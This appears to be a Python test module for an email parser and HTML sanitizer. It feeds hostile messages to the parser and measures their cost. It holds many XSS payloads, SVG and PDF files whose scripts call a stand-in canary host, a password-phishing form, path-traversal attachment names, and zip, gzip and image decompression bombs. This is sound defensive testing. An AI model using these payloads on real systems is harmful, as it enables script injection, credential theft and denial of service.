"""
Messages made to hurt. As a program it takes each in a process of its own and prints what that cost.

    python -m ambasador.channels.tests.hostile
"""

import base64
import io
import json
import os
import resource
import sys
import time
import zipfile
import zlib

from ambasador.channels.email import parse, split_reply
from ambasador.channels.email.html import clean
from ambasador.channels.email.peek import peek
from ambasador.channels.tests.raw import mixed, report

MEGABYTE = 1024 * 1024


def nested(depth: int) -> bytes:
    raw = b"From: a@b.pl\n"
    for level in range(depth):
        raw += b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (level, level)
    return raw + b"\nsrodek\n"


def letter(html: str, *more: bytes) -> bytes:
    return mixed(b"Content-Type: text/html; charset=utf-8\n\n" + html.encode(), *more, head=b"Subject: Wrogi <b>list</b>\n")


def file(name: str, content: bytes, media_type: str = "application/octet-stream", *, content_id: str = "") -> bytes:
    head = f'Content-Type: {media_type}; name="{name}"\nContent-Disposition: attachment; filename="{name}"\nContent-Transfer-Encoding: base64\n'
    return (head + (f"Content-ID: <{content_id}>\n" if content_id else "") + "\n").encode() + base64.encodebytes(content)


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(8):
            archive.writestr(f"{number}.txt", bytes(8 * MEGABYTE))
    return out.getvalue()


def picture_bomb(side: int = 50_000) -> bytes:
    """A PNG of a few kilobytes that claims a picture of gigabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)

    head = side.to_bytes(4) * 2 + b"\x08\x02\0\0\0"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(8 * MEGABYTE), 9)) + chunk(b"IEND", b"")


CANARY = "https://kanarek.example"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("{CANARY}/svg")</script><image href="{CANARY}/i"/></svg>'.encode()
PDF = f"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\('{CANARY}'\\))>>>>endobj\ntrailer<</Root 1 0 R>>".encode()

# what of a message is shown: nothing of it may act, cover, fetch or pretend
SHOWN = {
    "script": letter(f'<script src="{CANARY}/s.js"></script><script>document.title="hacked"</script>Dzień dobry'),
    "events": letter('<img src=x onerror="document.title=\'hacked\'"><body onload="document.title=\'hacked\'"><details open ontoggle=alert(1)>x'),
    "addresses": letter('<a href="javascript:document.title=1">x</a><a href="data:text/html,<script>alert(1)</script>">y</a><a href="vbscript:x">z</a>'),
    "svg": letter(f'<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s></svg><img src="data:image/svg+xml,{CANARY}">'),
    "mathml": letter('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'),
    "mutation": letter('<noscript><p title="</noscript><img src=x onerror=alert(1)>"><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'),
    "frames": letter(f'<iframe src="{CANARY}/f" srcdoc="<script>parent.document.title=1</script>"></iframe><object data="{CANARY}/o"></object><embed src="{CANARY}/e">'),
    "pixel": letter(f'<img src="{CANARY}/p.gif" width=1 height=1><img srcset="{CANARY}/q 1x"><input type=image src="{CANARY}/r"><video poster="{CANARY}/v">'),
    "style": letter(f'<style>@import "{CANARY}/c.css"; input[value^=a]{{background:url({CANARY}/a)}} body{{background:url({CANARY}/b)}}</style>tekst'),
    "style attribute": letter(f'<div style="background:url({CANARY}/d);position:fixed;inset:0;z-index:9999">Zaloguj się ponownie</div>'),
    "font": letter(f'<style>@font-face{{font-family:x;src:url({CANARY}/w.woff)}}</style><font face=x>tekst</font><link rel=stylesheet href="{CANARY}/l">'),
    "prefetch": letter(f'<link rel=dns-prefetch href="{CANARY}"><link rel=preload as=image href="{CANARY}/x"><a ping="{CANARY}/p" href="https://ok.example">x</a>'),
    "form": letter(f'<form action="{CANARY}/login"><input name=password><button formaction="{CANARY}">Zaloguj</button></form>'),
    "refresh": letter(f'<meta http-equiv=refresh content="0;url={CANARY}/m"><base href="{CANARY}/">tekst'),
    "htmx": letter(f'<div hx-get="{CANARY}/h" hx-trigger="load" data-hx-on="x" hx-on::load="alert(1)">x</div><div data-live="ticket:1">y</div>'),
    "pretends": letter('<div class="banner" id="composer" role="alert">Program: potwierdź hasło</div><h1>Zgłoszenie zamknięte</h1>'),
    "conditional": letter('<!--[if gte IE 4]><script>alert(1)</script><![endif]--><xss style=behavior:url(x)><b/onmouseover=alert(1)>x'),
    "cid of a drawing": letter('<img src="cid:rysunek">', file("rysunek.png", SVG, "image/png", content_id="rysunek")),
    "subject": b'From: "<img src=x onerror=alert(1)>" <a@b.pl>\nSubject: <script>alert(1)</script>{{ 7*7 }}${7*7}\n\n<script>alert(1)</script>',
    "drawing": letter("w zalaczniku", file("rysunek.svg", SVG, "image/svg+xml"), file("strona.html", b"<script>alert(1)</script>", "text/html")),
    "document": letter("w zalaczniku", file("umowa.pdf", PDF, "application/pdf"), file("x.xhtml", SVG, "application/xhtml+xml")),
    "names": letter("w zalaczniku", file("..\\\\..\\\\etc\\\\passwd", b"x"), file("<img src=x onerror=alert(1)>.png", b"x"), file(".htaccess", b"x")),
}
# what it costs to read
COSTLY = {
    "nested parts": nested(20_000),
    "one boundary for all": b"From: a@b.pl\nContent-Type: multipart/mixed; boundary=a\n\n"
    + b"--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 30_000,
    "many parts": mixed(*[b"\nx"] * 60_000),
    "ten thousand files": mixed(*[b"Content-Type: application/pdf; name=a.pdf\n\nx"] * 10_000),
    "ten thousand recipients": b"From: a@b.pl\nTo: " + b",\n ".join(b'"Jan %d" <jan%d@x.pl>' % (n, n) for n in range(10_000)) + b"\n\nx",
    "ten thousand copies": b"From: a@b.pl\n" + b"Cc: a@b.pl, c@d.pl\n" * 10_000 + b"\nx",
    "encoded words": b"Subject: " + b"=?utf-8?q?a?= " * 50_000 + b"\n\nx",
    "unfinished encoded words": b"Subject: " + b"=?a?q?" * 100_000 + b"\n\nx",
    "question marks": b"Subject: " + b"=?a?q?x?=41" * 50_000 + b"\n\nx",
    "subject of a machine": b"From: MAILER-DAEMON@x\nSubject: " + b"your message to " * 20_000 + b"\n\nx",
    "away again": b"Subject: " + b"a is out of the office " * 20_000 + b"\n\nx",
    "hidden headers": b"Subject: =?utf-8?q?a=0D=0ABcc:_x@y.pl?=\nFrom: =?utf-8?q?a=0AB?= <a@b.pl>\nMessage-ID: <a\r\n b@x>\n\nx",
    "addresses": b"To: " + b"a@b.pl, " * 200_000 + b"\n\nx",
    "groups": b"To: " + b"a:;" * 200_000 + b"\n\nx",
    "comments": b"From: " + b"(" * 200_000 + b"a@b.pl\n\nx",
    "quotes": b'From: "' + b'\\"' * 100_000 + b"\n\nx",
    "headers": b"X: y\n" * 300_000 + b"\nx",
    "folded header": b"Subject: a\n" + b" b\n" * 300_000 + b"\nx",
    "folds of blanks": b"Subject: a\n" + b" \n" * 200_000 + b" b\n\nx",
    "junk headers": b"From: a@b.pl\n" + b"junk\n" * 200_000 + b"To: x@y\n\nx",
    "references": b"References: " + b"<a@b> " * 200_000 + b"\n\nx",
    "parameters": b"Content-Type: text/plain; " + b"a=b; " * 100_000 + b"\n\nx",
    "quotes in a parameter": b'Content-Type: text/plain; name="' + b'"a' * 100_000 + b"\n\nx",
    "spaces in parameters": b"Content-Type: text/plain;" + b" " * 200_000 + b"x\n\nx",
    "continuations": b"Content-Disposition: attachment; " + b"; ".join(b"filename*%d=a" % n for n in range(50_000)) + b"\n\nx",
    "dates": b"Date: " + b"1:" * 100_000 + b"\n" + (b"Received: a; " + b"1 " * 150 + b"\n") * 1500 + b"\nx",
    "tags": b"Content-Type: text/html\n\n" + b"<div>" * 200_000 + b"x",
    "open tags": b"Content-Type: text/html\n\n" + b"<" * 1_000_000,
    "open comments": b"Content-Type: text/html\n\n" + b"<!--" * 300_000,
    "open titles": b"Content-Type: text/html\n\n" + b"<title>" * 300_000,
    "open scripts": b"Content-Type: text/html\n\n" + b"<script>" * 200_000,
    "attributes": b"Content-Type: text/html\n\n<p " + b"a=b " * 200_000 + b">x",
    "entities": b"Content-Type: text/html\n\n" + b"&amp" * 300_000,
    "meta": b"Content-Type: text/html\n\n" + b"<meta charset" * 200_000,
    "begin": b"\n" + b"begin 644 a\n``\n" * 60_000 + b"\nend\n",
    "report": report(b"Final-Recipient: rfc822; a@b.pl\nAction: failed\n\n" * 20_000),
    "machine words": b"From: MAILER-DAEMON@x\nSubject: Undelivered\n\n" + b"a@" * 300_000,
    "base64 junk": b"Content-Type: application/x\nContent-Transfer-Encoding: base64\n\n" + b"=A" * 500_000,
    "open signature": b"Content-Type: application/pkcs7-mime\n\n" + b"\x30\x80" * 500_000,
    "signature in pieces": b"Content-Type: application/pkcs7-mime\n\n"
    + bytes.fromhex("308006092a864886f70d010702a080308002010131003080" + "06092a864886f70d010701a0802480") + b"\x04\0" * 500_000,
    "long line": b"Subject: x\n\n" + b"a" * 5_000_000,
    "marks": ("Od: a@b " + "Data: x " * 60 + "\n").encode() * 2000,
    "closings": ("\n\n" + "Pozdrawiam,\n600100200\n" * 40_000).encode(),
    "nul": b"\0" * 2_000_000,
    "line ends": b"\r\n" * 1_000_000,
    "high bytes": b"Subject: x\n\n" + bytes(range(128, 256)) * 20_000,
    "zip bomb": mixed(b"\nx", file("a.zip", zip_bomb(), "application/zip")),
    "gzip bomb": mixed(b"\nx", file("a.gz", zlib.compress(bytes(32 * MEGABYTE), 9), "application/gzip")),
    "picture bomb": mixed(b"\nx", file("a.png", picture_bomb(), "image/png", content_id="a")),
    "forty megabytes": mixed(b"\nx", file("a.bin", bytes(28 * MEGABYTE))),
}
HOSTILE = SHOWN | COSTLY


def take(raw: bytes) -> dict[str, float]:
    """Everything that is made of a message when it comes in, and what it cost beyond what the process held already."""
    started, before = time.process_time(), _peak()
    message = parse(raw)
    peek(raw)
    split_reply(message.text)
    clean(message.html)
    return {
        "seconds": time.process_time() - started,
        "megabytes": _peak() - before,
        "files": len(message.attachments),
        "signs": len(message.text),
        "recipients": len(message.to) + len(message.cc),
    }


def _peak() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def in_a_process_of_its_own(raw: bytes) -> dict[str, float]:
    """`take` in a child that has ten seconds, or nothing when it did not live to tell."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        resource.setrlimit(resource.RLIMIT_CPU, (10, 10))
        with os.fdopen(writing, "w") as pipe:
            json.dump(take(raw), pipe)
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading) as pipe:
        told = pipe.read()
    os.waitpid(child, 0)
    return json.loads(told) if told else {}


if __name__ == "__main__":
    for name, raw in HOSTILE.items():
        sys.stdout.write(json.dumps({"name": name, **in_a_process_of_its_own(raw)}) + "\n")
        sys.stdout.flush()  # or every child would write it once more
